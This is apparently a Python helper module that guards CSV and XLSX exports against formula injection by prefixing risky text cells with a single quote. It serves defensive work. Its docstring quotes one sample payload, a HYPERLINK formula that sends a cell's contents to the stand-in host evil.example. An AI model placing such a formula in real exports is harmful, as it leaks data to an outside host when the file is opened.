"""Spreadsheet cells that cannot run: the one guard every CSV and XLSX writer uses.

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return, which some strip before looking) as a formula, so an action text such
as ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` would run when an export is opened.
As OWASP's "CSV Injection" page advises, such a text cell is written with a single quote
in front, which shows it as text. Numbers, dates and empty cells are left as they are.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell that a spreadsheet shows as text, never evaluates; None → ""."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
